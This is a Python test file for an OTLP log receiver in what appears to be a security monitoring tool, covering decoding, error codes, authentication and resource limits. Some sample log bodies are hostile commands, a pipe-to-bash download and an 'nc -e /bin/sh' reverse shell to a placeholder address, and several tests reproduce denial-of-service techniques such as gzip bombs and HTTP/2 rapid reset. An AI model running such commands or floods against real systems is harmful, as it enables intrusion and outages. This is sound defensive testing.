"""The OTLP receiver on loopback, with the official OpenTelemetry SDK exporters as clients and raw
requests for every failure the OTLP specification names."""

from __future__ import annotations

import gzip
import http.client
import json
import socket
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import grpc
import pytest
import requests
from google.rpc import error_details_pb2, status_pb2
from grpc import Compression as GrpcCompression
from opentelemetry._logs import LogRecord as ApiLogRecord
from opentelemetry.exporter.otlp.proto.grpc._log_exporter import OTLPLogExporter as GrpcLogExporter
from opentelemetry.exporter.otlp.proto.http import Compression
from opentelemetry.exporter.otlp.proto.http._log_exporter import OTLPLogExporter as HttpLogExporter
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest, ExportLogsServiceResponse
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
from opentelemetry.sdk._logs import LoggerProvider
from opentelemetry.sdk._logs.export import SimpleLogRecordProcessor
from opentelemetry.sdk.resources import Resource

from core.otlpwire import MAX_MESSAGES_PER_REQUEST, field
from otlp_receiver.receivers.otlp import grpc_server
from otlp_receiver.receivers.otlp.decode import MAX_RECORDS_PER_REQUEST, InvalidRequest, decode_json, decode_protobuf
from otlp_receiver.receivers.otlp.repair import CUT_TEXT, MAX_ATTRIBUTES, mend
from otlp_receiver.service import Service
from testing import wait_until
from testing.raw_http2 import grpc_call_ending, grpc_call_held, resets_until_unread

TESTDATA = Path(__file__).parent / "testdata"
EXPORT = "/opentelemetry.proto.collector.logs.v1.LogsService/Export"
PROTOBUF = {"Content-Type": "application/x-protobuf"}


@pytest.fixture
def start_service(tmp_path: Path) -> Iterator[Callable[..., Service]]:
    started: list[Service] = []

    def start(name: str, **env: str) -> Service:
        service = Service.from_config_file(TESTDATA / name, {"DATA_DIR": str(tmp_path / "data"), **env})
        service.start()
        started.append(service)
        return service

    yield start
    for service in started:
        service.shutdown(timeout=5)


def request_of(*bodies: str, trace_id: bytes = b"", **resource: str) -> ExportLogsServiceRequest:
    request = ExportLogsServiceRequest()
    resource_logs = request.resource_logs.add()
    for key, value in resource.items():
        attribute = resource_logs.resource.attributes.add()
        attribute.key, attribute.value.string_value = key.replace("_", "."), value
    scope_logs = resource_logs.scope_logs.add()
    for body in bodies:
        record = scope_logs.log_records.add(time_unix_nano=time.time_ns(), trace_id=trace_id)
        record.body.string_value = body
    return request


def sdk_send(exporter, *bodies: str) -> None:  # type: ignore[no-untyped-def]
    provider = LoggerProvider(resource=Resource.create({"host.name": "web-1"}))
    provider.add_log_record_processor(SimpleLogRecordProcessor(exporter))
    logger = provider.get_logger("procsight.tests")
    for body in bodies:
        logger.emit(ApiLogRecord(body=body, attributes={"process.executable.name": "sh"}))
    provider.shutdown()


def grpc_call(service: Service, body: bytes, metadata: tuple = ()) -> tuple[bytes | None, grpc.RpcError | None]:
    with grpc.insecure_channel(service.grpc_endpoint(), options=[("grpc.max_send_message_length", 64 << 20)]) as ch:
        export = ch.unary_unary(EXPORT, request_serializer=None, response_deserializer=None)
        try:
            return export(body, metadata=metadata, timeout=10), None
        except grpc.RpcError as exc:
            return None, exc


# -- happy paths with the official SDK exporters ------------------------------------------------------


def test_python_sdk_grpc_exporter_delivers_records(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    exporter = GrpcLogExporter(endpoint=service.grpc_endpoint(), insecure=True)
    sdk_send(exporter, "sh -c id", "nginx -g daemon off;")
    wait_until(lambda: sum("log records" in line for line in exported()) >= 1 and len(exported()) >= 3)
    bodies = " ".join(exported())
    assert "'sh -c id'" in bodies and "'nginx -g daemon off;'" in bodies
    assert service.telemetry.counter("procsight_receiver_accepted_log_records_total", "").value(
        transport="grpc") == 2


def test_python_sdk_grpc_exporter_with_gzip(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    exporter = GrpcLogExporter(endpoint=service.grpc_endpoint(), insecure=True, compression=GrpcCompression.Gzip)
    sdk_send(exporter, "gzip over grpc")
    wait_until(lambda: any("'gzip over grpc'" in line for line in exported()))


def test_python_sdk_http_exporter_with_gzip_delivers_records(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    exporter = HttpLogExporter(endpoint=f"http://{service.http_endpoint()}/v1/logs", compression=Compression.Gzip)
    results = []
    original = exporter.export
    exporter.export = lambda batch: results.append(original(batch)) or results[-1]  # type: ignore[method-assign]
    sdk_send(exporter, "curl http://x | bash")
    assert [r.name for r in results] == ["SUCCESS"]
    wait_until(lambda: any("curl http://x | bash" in line for line in exported()))


def test_acknowledged_records_are_in_the_spool_before_the_pipeline_runs(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    response = requests.post(f"http://{service.http_endpoint()}/otlp/v1/events", headers=PROTOBUF,
                             data=request_of("a", "b", "c").SerializeToString(), timeout=10)
    assert response.status_code == 200
    ExportLogsServiceResponse.FromString(response.content)  # a valid empty response
    spool = service.pipelines["logs"].spool
    committed = service.telemetry.counter("procsight_pipeline_committed_log_records_total", "")
    # The pipeline commits the spool entry, then counts: wait for both (reading the count at once raced).
    wait_until(lambda: spool.uncommitted_entries() == 0 and committed.value(pipeline="logs") == 3,
               what="3 records committed")


# -- OTLP/JSON ---------------------------------------------------------------------------------------


def test_json_with_hex_ids_and_string_int64(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    document = {"resourceLogs": [{"resource": {"attributes": [{"key": "host.name", "value": {"stringValue": "h"}}]},
                                  "scopeLogs": [{"logRecords": [{
                                      "timeUnixNano": "1700000000000000000", "severityNumber": 9,
                                      "traceId": "5b8efff798038103d269b633813fc60c", "spanId": "eee19b7ec3c1b174",
                                      "body": {"stringValue": "json record"}, "unknownField": 1,
                                      "attributes": [{"key": "process.pid", "value": {"intValue": "42"}}]}]}]}]}
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", json=document, timeout=10)
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"] == "application/json"
    assert response.json() == {}
    wait_until(lambda: any("json record" in line for line in exported()))


def test_json_partial_success_names_rejected_records(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    document = {"resourceLogs": [{"scopeLogs": [{"logRecords": [
        {"body": {"stringValue": "fine"}}, {"body": {"stringValue": "bad"}, "spanId": "abcd"}]}]}]}
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", json=document, timeout=10)
    assert response.status_code == 200
    body = response.json()
    assert body["partialSuccess"]["rejectedLogRecords"] == "1"
    assert "span_id" in body["partialSuccess"]["errorMessage"]


def test_json_records_that_do_not_parse_are_rejected_alone(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    """A field of the wrong type (`"flags": -1`) or an id that is no hex refused the whole request before."""
    service = start_service("basic.yaml")
    document = {"resourceLogs": [{"scopeLogs": [{"logRecords": [
        {"body": {"stringValue": "kept one"}}, {"body": {"stringValue": "x"}, "flags": -1},
        {"body": {"stringValue": "y"}, "traceId": "zz"}, {"body": {"stringValue": "kept two"}}]}]}]}
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", json=document, timeout=10)
    assert response.status_code == 200, response.text
    assert response.json()["partialSuccess"]["rejectedLogRecords"] == "2"
    wait_until(lambda: sum("kept" in line for line in exported()) == 2, what="the two good records exported")


def test_invalid_utf8_and_deep_nesting_are_mended_not_refused(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    """A Collector passes invalid UTF-8 through; refusing it lost every record of the request."""
    service = start_service("basic.yaml")
    request = request_of("before", "AAAA mended", "after")
    deep = request.resource_logs[0].scope_logs[0].log_records[2].attributes.add()
    deep.key, value = "deep", deep.value
    for level in range(40):  # past the parser's 100 message levels
        inner = value.kvlist_value.values.add()
        inner.key, value = f"k{level}", inner.value
    body = request.SerializeToString().replace(b"AAAA", b"\xff\xfeAA", 1)
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=body, headers=PROTOBUF, timeout=10)
    assert response.status_code == 200, response.content
    answer = ExportLogsServiceResponse.FromString(response.content).partial_success
    assert answer.rejected_log_records == 0 and "mended: 2" in answer.error_message
    wait_until(lambda: sum(word in line for line in exported() for word in ("before", "\ufffd\ufffdAA mended",
                                                                              "after")) == 3, what="all three")


def _every_string_field(text: str) -> bytes:
    """A logs request with `text` starting each of its 12 string fields, and fields of other kinds."""
    request = ExportLogsServiceRequest()
    resource_logs = request.resource_logs.add(schema_url=f"{text}r")
    resource_logs.resource.attributes.add(key=f"{text}k").value.string_value = f"{text}v"
    resource_logs.resource.entity_refs.add(type=f"{text}t", id_keys=[f"{text}i"])
    scope_logs = resource_logs.scope_logs.add(schema_url=f"{text}s")
    scope_logs.scope.name, scope_logs.scope.version = f"{text}n", f"{text}e"
    record = scope_logs.log_records.add(severity_text=f"{text}x", event_name=f"{text}w", time_unix_nano=7,
                                        trace_id=b"\xff" * 16)
    record.body.array_value.values.add().kvlist_value.values.add(key=f"{text}a").value.string_value = f"{text}b"
    record.body.array_value.values.add().bytes_value = b"\xff\xfe"  # bytes: not text, not mended
    return request.SerializeToString() + field(99, b"\xff")  # a field no OTLP version has: copied


def test_mending_replaces_invalid_utf8_in_every_string_field_and_copies_the_rest() -> None:
    """Every string field of a logs request (the parser refuses invalid UTF-8 in each) is mended where it is
    invalid; numbers, bytes and fields the walk does not know come through as they were."""
    body = _every_string_field("BAD")
    mended = mend(body.replace(b"BAD", b"\xc3\x28A"))  # a lead byte whose follower is not a continuation
    assert mended is not None and mended.values == 12 and mended.attributes_cut == 0
    assert mended.body == _every_string_field("\ufffd(A")
    assert mend(body) == (body, 0, 0)
    assert mend(field(1, b"\x0a\x05")) is None  # a field past its message's end: not protobuf


def test_json_values_nested_too_deep_are_cut_as_protobuf_ones_are(start_service, exported) -> None:  # type: ignore[no-untyped-def]
    """The JSON parser refused such a record (its reverse shell went unscored) where protobuf's was mended."""
    service = start_service("basic.yaml")
    value: dict = {"stringValue": "leaf"}
    for level in range(40):
        value = {"kvlistValue": {"values": [{"key": f"k{level}", "value": value}]}} if level % 2 else \
            {"arrayValue": {"values": [value]}}
    document = {"resourceLogs": [{"scopeLogs": [{"logRecords": [
        {"body": {"stringValue": "before"}},
        {"body": {"stringValue": "deep one"}, "attributes": [{"key": "deep", "value": value}]},
        {"body": {"stringValue": "after"}}]}]}]}
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", json=document, timeout=10)
    assert response.status_code == 200, response.text
    answer = response.json()["partialSuccess"]
    assert "rejectedLogRecords" not in answer and "mended: 1" in answer["errorMessage"]
    wait_until(lambda: sum(word in line for line in exported() for word in ("before", "deep one", "after")) == 3,
               what="all three")
    cut = decode_json(json.dumps(document).encode()).request.resource_logs[0].scope_logs[0].log_records[1]
    value_at = cut.attributes[0].value
    for _ in range(24):  # 24 levels kept (the attribute's own value is the first), the 25th replaced
        value_at = value_at.kvlist_value.values[0].value if value_at.HasField("kvlist_value") else \
            value_at.array_value.values[0]
    assert value_at.string_value == CUT_TEXT


@pytest.mark.parametrize("payload", [b"{not json", b"[1, 2]", b'{"resourceLogs": 5}',
                                     b'{"resourceLogs": [], "x": ' + b"9" * 5000 + b"}",  # too many digits
                                     b'{"resourceLogs": [null]}', b'{"resourceLogs": [1]}',  # were 500s
                                     b'{"resourceLogs": [{"scopeLogs": [null]}]}'])
def test_bad_json_is_400_with_a_status_body(start_service, payload: bytes) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=payload,
                             headers={"Content-Type": "application/json"}, timeout=10)
    assert response.status_code == 400
    assert response.json()["code"] == 3 and response.json()["message"]


# -- failures over HTTP ------------------------------------------------------------------------------


def test_malformed_protobuf_is_400_with_rpc_status(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=b"\xff\xff\xff garbage",
                             headers=PROTOBUF, timeout=10)
    assert response.status_code == 400
    status = status_pb2.Status.FromString(response.content)
    assert status.code == 3 and "malformed protobuf" in status.message
    rejected = service.telemetry.counter("procsight_receiver_rejected_requests_total", "")
    assert rejected.value(transport="http", reason="malformed_protobuf") == 1


def test_wrong_content_type_is_415(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=b"hello",
                             headers={"Content-Type": "text/plain"}, timeout=10)
    assert response.status_code == 415


def test_wrong_method_and_unknown_path(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    assert requests.get(f"http://{service.http_endpoint()}/v1/logs", timeout=10).status_code == 405
    assert requests.post(f"http://{service.http_endpoint()}/v1/traces", data=b"", headers=PROTOBUF,
                         timeout=10).status_code == 404


def test_oversized_body_is_413_and_gzip_bomb_too(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")  # max_request_body_size 2,000,000
    big = request_of("x" * 2_100_000).SerializeToString()
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=big, headers=PROTOBUF, timeout=10)
    assert response.status_code == 413
    bomb = gzip.compress(b"\x00" * 50_000_000)
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=bomb,
                             headers={**PROTOBUF, "Content-Encoding": "gzip"}, timeout=10)
    assert response.status_code == 413
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=b"not gzip",
                             headers={**PROTOBUF, "Content-Encoding": "gzip"}, timeout=10)
    assert response.status_code == 400


def test_a_request_of_too_many_records_is_refused_before_it_is_parsed(start_service) -> None:  # type: ignore[no-untyped-def]
    # Empty records are 2 bytes each: the 10 million of a default 20 MiB body gzip to about 20 KiB, and parsed
    # would take 1.4 GB; here half a million, under this config's 2 MB body limit.
    service = start_service("basic.yaml")
    records = MAX_RECORDS_PER_REQUEST * 5
    body = field(1, field(2, field(2, b"") * records))
    assert len(gzip.compress(body)) < 16 << 10
    started = time.monotonic()
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=gzip.compress(body),
                             headers={**PROTOBUF, "Content-Encoding": "gzip"}, timeout=30)
    assert response.status_code == 400
    assert f"{records:,} log records in one request" in status_pb2.Status.FromString(response.content).message
    _, error = grpc_call(service, field(1, field(2, field(2, b"") * (MAX_RECORDS_PER_REQUEST + 1))))
    assert error is not None and error.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert time.monotonic() - started < 10
    refused = service.telemetry.counter("procsight_receiver_rejected_requests_total", "")
    assert refused.value(transport="http", reason="too_many_records") == 1
    assert refused.value(transport="grpc", reason="too_many_records") == 1
    # One record under the limit is a request like any other.
    assert decode_protobuf(field(1, field(2, field(2, b"") * MAX_RECORDS_PER_REQUEST))).accepted == \
        MAX_RECORDS_PER_REQUEST


def test_the_record_cap_is_not_bypassed_by_a_group_field_or_a_second_json_key() -> None:
    """A group (wire types 3 and 4, in no OTLP message) made the request uncountable, and the parser skipped it;
    `logRecords: []` beside a `log_records` list was counted as empty, and the parser read both."""
    group = bytes([15 << 3 | 3, 15 << 3 | 4])  # an empty group, field 15
    with pytest.raises(InvalidRequest, match="group field"):
        decode_protobuf(group + field(1, field(2, field(2, b"") * (MAX_RECORDS_PER_REQUEST + 1))))
    # Inside a record the parser skipped it too, and the ClickHouse exporter's reader then dropped the record.
    with pytest.raises(InvalidRequest, match="group field"):
        decode_protobuf(field(1, field(2, field(2, field(1, b"\x01" * 8) + b"\x93\x03\x08\x07\x94\x03"))))
    document = {"resourceLogs": [{"scopeLogs": [{"logRecords": [], "log_records": [{}] * 3}]}]}
    with pytest.raises(InvalidRequest, match="both logRecords and log_records"):
        decode_json(json.dumps(document).encode())


def test_attributes_past_the_cap_are_cut_but_those_scoring_reads() -> None:
    """A million empty attributes (2 KB gzipped) cost seconds in every stage after decoding and could stall the
    scoring process; an attacker's exec attributes placed after them must still be scored."""
    junk = field(6, b"") * 1_000_000
    exec_attribute = field(6, field(1, b"process.command_line") + field(2, field(1, b"nc -e /bin/sh 203.0.113.9 4")))
    resource = field(1, field(1, b"") * 5000)  # ResourceLogs.resource, its attributes
    decoded = decode_protobuf(field(1, resource + field(2, field(2, junk + exec_attribute))))
    record = decoded.request.resource_logs[0].scope_logs[0].log_records[0]
    assert len(record.attributes) == MAX_ATTRIBUTES and decoded.accepted == 1
    assert record.attributes[-1].key == "process.command_line"
    assert len(decoded.request.resource_logs[0].resource.attributes) == MAX_ATTRIBUTES
    assert decoded.mended and "cut" in decoded.message
    assert len(ExportLogsServiceRequest.FromString(decoded.payload).resource_logs[0].scope_logs[0].log_records[0]
               .attributes) == MAX_ATTRIBUTES  # what is spooled is what was cut
    # With one invalid UTF-8 value among them, the walk that mends it cut them too (it was 2.7 CPU-s in Python).
    invalid = field(6, field(1, b"junk") + field(2, field(1, b"\xff")))
    decoded = decode_protobuf(field(1, field(2, field(2, junk + invalid + exec_attribute))))
    record = decoded.request.resource_logs[0].scope_logs[0].log_records[0]
    assert len(record.attributes) == MAX_ATTRIBUTES and record.attributes[-1].key == "process.command_line"
    # OTLP/JSON is cut before it is parsed: 300,000 empty attributes (1 KB gzipped) cost 3.7 s of CPU.
    pairs = [{}] * 300_000 + [{"key": "process.command_line", "value": {"stringValue": "id"}}]
    started = time.process_time()
    decoded = decode_json(json.dumps({"resourceLogs": [{"scopeLogs": [{"logRecords": [{"attributes": pairs}]}]}]})
                          .encode())
    assert time.process_time() - started < 1.5
    record = decoded.request.resource_logs[0].scope_logs[0].log_records[0]
    assert len(record.attributes) == MAX_ATTRIBUTES and record.attributes[-1].key == "process.command_line"
    assert "attributes past" in decoded.message


def test_a_request_of_millions_of_empty_lists_or_attributes_is_refused_before_it_is_parsed() -> None:
    """Ten million empty ResourceLogs (20 MiB, 20 KiB gzipped) hold no record, and parsed took 740 MB and 11 s."""
    started = time.monotonic()
    with pytest.raises(InvalidRequest, match="messages in one request"):
        decode_protobuf(b"\x0a\x00" * (MAX_MESSAGES_PER_REQUEST + 1))
    with pytest.raises(InvalidRequest, match="messages in one request"):  # one record's attributes
        decode_protobuf(field(1, field(2, field(2, b"\x32\x00" * MAX_MESSAGES_PER_REQUEST))))
    with pytest.raises(InvalidRequest, match="JSON objects and arrays in one request"):
        decode_json(b'{"resourceLogs": [' + b"{}," * MAX_MESSAGES_PER_REQUEST + b"{}]}")
    with pytest.raises(InvalidRequest, match="JSON objects and arrays in one request"):  # in a field not read
        decode_json(b'{"resourceLogs": [], "padding": [' + b"[]," * MAX_MESSAGES_PER_REQUEST + b"[]]}")
    assert time.monotonic() - started < 5
    # A batch processor's request, 8,192 records of 30 attributes, is far inside.
    record = field(6, field(1, b"process.command_line") + field(2, field(1, b"ls -l"))) * 30
    assert decode_protobuf(field(1, field(2, field(2, record) * 8192))).accepted == 8192


def test_a_json_double_too_large_for_a_float_drops_its_record_not_the_request() -> None:
    """A 400-digit doubleValue overflows a float (OverflowError, which escaped as a 500); its record is
    reported in partial_success and the other record is kept."""
    good = '{"body": {"stringValue": "kept"}}'
    bad = '{"attributes": [{"key": "n", "value": {"doubleValue": ' + "9" * 400 + "}}]}"
    body = '{"resourceLogs": [{"scopeLogs": [{"logRecords": [' + good + ", " + bad + "]}]}]}"
    decoded = decode_json(body.encode())
    assert (decoded.accepted, decoded.rejected) == (1, 1)


def test_an_event_time_far_ahead_of_the_clock_is_set_to_arrival_and_reported() -> None:
    """The triage views select by event time: an alert dated ten years ahead was stored and never listed."""
    request = request_of("far ahead", "near")
    records = request.resource_logs[0].scope_logs[0].log_records
    now = time.time_ns()
    records[0].time_unix_nano = now + 3650 * 86400 * 10**9
    records[1].time_unix_nano = now + 60 * 10**9  # clock drift: kept
    decoded = decode_protobuf(request.SerializeToString())
    stored = decoded.request.resource_logs[0].scope_logs[0].log_records
    assert now <= stored[0].time_unix_nano <= time.time_ns() and stored[1].time_unix_nano == now + 60 * 10**9
    assert decoded.mended == 1 and "ahead of the receiver's clock: 1" in decoded.message


def test_streams_that_never_send_their_message_do_not_starve_other_clients(start_service) -> None:  # type: ignore[no-untyped-def]
    """grpcio's threaded server gave each of its 16 workers to a call as its headers came: 16 streams that never
    sent their message (no token needed) left every other client waiting for ever."""
    service = start_service("basic.yaml")
    released = threading.Event()

    def nothing() -> Iterator[bytes]:  # a request stream that sends its headers and then nothing
        released.wait(30)
        yield from ()

    with grpc.insecure_channel(service.grpc_endpoint()) as channel:
        stall = channel.stream_unary(EXPORT, request_serializer=None, response_deserializer=None)
        stalled = [stall.future(nothing()) for _ in range(40)]
        try:
            started = time.monotonic()
            _, error = grpc_call(service, request_of("served while 40 streams stall").SerializeToString())
            assert error is None and time.monotonic() - started < 5, error
        finally:
            released.set()
            for call in stalled:
                call.cancel()


def test_spool_full_is_429_with_retry_after(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("tiny_spool.yaml")  # a 1 MiB spool
    big = request_of("y" * 1_200_000).SerializeToString()
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs", data=big, headers=PROTOBUF, timeout=10)
    assert response.status_code == 429
    assert int(response.headers["Retry-After"]) >= 1
    rejected = service.telemetry.counter("procsight_receiver_rejected_log_records_total", "")
    assert rejected.value(transport="http", reason="spool_full") == 1


def test_memory_limiter_answers_503_and_unavailable(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("memory_limited.yaml")  # limit_mib: 1, always exceeded
    response = requests.post(f"http://{service.http_endpoint()}/v1/logs",
                             data=request_of("a").SerializeToString(), headers=PROTOBUF, timeout=10)
    assert response.status_code == 503 and response.headers["Retry-After"]
    _, error = grpc_call(service, request_of("a").SerializeToString())
    assert error is not None and error.code() == grpc.StatusCode.UNAVAILABLE


# -- failures over gRPC ------------------------------------------------------------------------------


def test_grpc_malformed_protobuf_is_invalid_argument(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    _, error = grpc_call(service, b"\x0a\xff\xff\xff\xff\x0f")
    assert error is not None and error.code() == grpc.StatusCode.INVALID_ARGUMENT


def test_grpc_call_ending_inside_its_message_is_answered_and_counted(start_service) -> None:  # type: ignore[no-untyped-def]
    """A length prefix promising 4 MiB, 40-odd bytes sent, then the stream's end: grpc's asyncio server dropped
    such a unary call unanswered, and the client waited for its deadline."""
    service = start_service("basic.yaml")
    message = request_of("cut short").SerializeToString()
    started = time.monotonic()
    assert grpc_call_ending(service.grpc_endpoint(), EXPORT, message, (4 << 20) - 10) == "trailers"
    assert time.monotonic() - started < 3
    rejected = service.telemetry.counter("procsight_receiver_rejected_requests_total", "")
    assert rejected.value(transport="grpc", reason="incomplete_message") == 1
    assert grpc_call_ending(service.grpc_endpoint(), EXPORT, message, len(message)) == "trailers"  # the control
    wait_until(lambda: service.telemetry.counter("procsight_receiver_accepted_log_records_total", "")
               .value(transport="grpc") == 1)


def test_a_client_resetting_calls_faster_than_round_trips_is_no_longer_read(start_service) -> None:  # type: ignore[no-untyped-def]
    """HTTP/2 rapid reset: one connection opened and reset 110,000 calls in 4 s, each a call the asyncio server
    started in Python, and a legitimate client got 2 of its 24 calls through. The server now answers a reset
    with a PING and reads on once it is acknowledged (the attack then opened 41,000 calls in 4 s, and the
    legitimate client got its calls through; 62,000 in 2 s were read before)."""
    service = start_service("basic.yaml")
    assert resets_until_unread(service.grpc_endpoint(), EXPORT, 4.0) is not None


def test_a_tenants_grpc_messages_on_their_way_in_are_bounded(start_service, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    """One tenant held 600 calls each with a 4 MB message a byte short: grpc kept 2.3 GB, and the memory limiter
    refused every tenant. A tenant's calls now read at most MAX_TENANT_ARRIVING_BYTES of messages at once."""
    monkeypatch.setattr(grpc_server, "MAX_TENANT_ARRIVING_BYTES", 8 << 20)  # two 4 MiB messages
    monkeypatch.setattr(grpc_server, "ROOM_WAIT", 1.0)
    service = start_service("basic.yaml")
    holders = [threading.Thread(target=grpc_call_held, args=(service.grpc_endpoint(), EXPORT, b"\x0a" * 1000,
                                                             4_000_000, 6.0)) for _ in range(2)]
    for holder in holders:
        holder.start()
    try:
        time.sleep(1.0)  # both held calls are reading
        _, error = grpc_call(service, request_of("a third").SerializeToString())
        assert error is not None and error.code() == grpc.StatusCode.RESOURCE_EXHAUSTED
        assert dict(error.trailing_metadata()).get("grpc-status-details-bin")  # with RetryInfo: retryable
        rejected = service.telemetry.counter("procsight_receiver_rejected_requests_total", "")
        assert rejected.value(transport="grpc", reason="tenant_bodies_arriving") == 1
    finally:
        for holder in holders:
            holder.join()
    wait_until(lambda: grpc_call(service, request_of("after").SerializeToString())[1] is None,
               what="a call served once the held ones ended")


def test_grpc_call_of_two_messages_is_invalid_argument(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    message = request_of("one of two").SerializeToString()
    with grpc.insecure_channel(service.grpc_endpoint()) as channel:
        export = channel.stream_unary(EXPORT, request_serializer=None, response_deserializer=None)
        with pytest.raises(grpc.RpcError) as raised:
            export(iter([message, message]), timeout=10)
    assert raised.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    rejected = service.telemetry.counter("procsight_receiver_rejected_requests_total", "")
    assert rejected.value(transport="grpc", reason="several_messages") == 1
    accepted = service.telemetry.counter("procsight_receiver_accepted_log_records_total", "")
    assert accepted.value(transport="grpc") == 0


def test_grpc_oversized_message_is_resource_exhausted(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")  # max_recv_msg_size_mib: 4 (default)
    _, error = grpc_call(service, request_of("z" * (5 << 20)).SerializeToString())
    assert error is not None and error.code() == grpc.StatusCode.RESOURCE_EXHAUSTED


def test_grpc_partial_success(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("basic.yaml")
    request = request_of("ok one", "ok two")
    request.resource_logs[0].scope_logs[0].log_records.append(LogRecord(trace_id=b"short"))
    response, error = grpc_call(service, request.SerializeToString())
    assert error is None
    parsed = ExportLogsServiceResponse.FromString(response)
    assert parsed.partial_success.rejected_log_records == 1
    assert "trace_id" in parsed.partial_success.error_message


def test_grpc_spool_full_is_resource_exhausted_with_retry_info(start_service) -> None:  # type: ignore[no-untyped-def]
    service = start_service("tiny_spool.yaml")
    _, error = grpc_call(service, request_of("y" * 1_200_000).SerializeToString())
    assert error is not None and error.code() == grpc.StatusCode.RESOURCE_EXHAUSTED
    details = dict(error.trailing_metadata())["grpc-status-details-bin"]
    status = status_pb2.Status.FromString(details)
    retry = error_details_pb2.RetryInfo()
    assert status.details[0].Unpack(retry)
    assert retry.retry_delay.seconds >= 1


# -- authentication ----------------------------------------------------------------------------------


def test_bearer_tokens_map_to_tenants(start_service, exported, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    token_file = tmp_path / "team-b.token"
    token_file.write_text("secret-b\n")
    service = start_service("auth.yaml", TEAM_A_TOKEN="secret-a", TEAM_B_TOKEN_FILE=str(token_file))
    body = request_of("x").SerializeToString()
    url = f"http://{service.http_endpoint()}/v1/logs"
    assert requests.post(url, data=body, headers=PROTOBUF, timeout=10).status_code == 401
    bad = {**PROTOBUF, "Authorization": "Bearer nope"}
    assert requests.post(url, data=body, headers=bad, timeout=10).status_code == 401
    good = {**PROTOBUF, "Authorization": "Bearer secret-a"}
    assert requests.post(url, data=body, headers=good, timeout=10).status_code == 200
    _, error = grpc_call(service, body)
    assert error is not None and error.code() == grpc.StatusCode.UNAUTHENTICATED
    _, error = grpc_call(service, body, metadata=(("authorization", "Bearer secret-b"),))
    assert error is None
    exporter = GrpcLogExporter(endpoint=service.grpc_endpoint(), insecure=True,
                               headers={"authorization": "Bearer secret-a"})
    sdk_send(exporter, "via sdk")

    def records_of(tenant: str) -> int:
        return sum(int(line.split(": ")[-1].split()[0]) for line in exported() if f"tenant {tenant}:" in line)

    wait_until(lambda: records_of("team-a") == 2 and records_of("team-b") == 1)


def test_a_token_sent_twice_counts_as_no_token_whichever_comes_first(start_service, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """By the first value alone, `Bearer good` then `Bearer wrong` let in what a proxy judging by the last
    refused; repeated values are one list (RFC 9110 section 5.3), which is no token."""
    (tmp_path / "team-b.token").write_text("secret-b\n")
    service = start_service("auth.yaml", TEAM_A_TOKEN="secret-a", TEAM_B_TOKEN_FILE=str(tmp_path / "team-b.token"))
    body = request_of("twice").SerializeToString()
    host, port = service.http_endpoint().rsplit(":", 1)
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    connection.putrequest("POST", "/v1/logs")
    for value in ("Bearer secret-a", "Bearer nope"):
        connection.putheader("Authorization", value)
    connection.putheader("Content-Type", PROTOBUF["Content-Type"])
    connection.putheader("Content-Length", str(len(body)))
    connection.endheaders(body)
    assert connection.getresponse().status == 401
    connection.close()
    _, error = grpc_call(service, body, metadata=(("authorization", "Bearer secret-a"), ("authorization", "Bearer x")))
    assert error is not None and error.code() == grpc.StatusCode.UNAUTHENTICATED


def test_a_grpc_call_without_a_token_is_refused_before_its_message_is_read(start_service, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """The token was checked once the message was whole: 600 calls without one, each holding a 4 MB message
    one byte short, kept 2.9 GB in grpc's buffers and the memory limiter refused every tenant."""
    (tmp_path / "team-b.token").write_text("secret-b\n")
    service = start_service("auth.yaml", TEAM_A_TOKEN="secret-a", TEAM_B_TOKEN_FILE=str(tmp_path / "team-b.token"))
    assert grpc_call_held(service.grpc_endpoint(), EXPORT, b"\x0a" * 1000, 4_000_000, timeout=3) == "trailers"
    refused = service.telemetry.counter("procsight_receiver_rejected_requests_total", "")
    assert refused.value(transport="grpc", reason="unauthenticated") == 1


def test_100_continue_is_sent_only_once_the_body_is_wanted(start_service, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
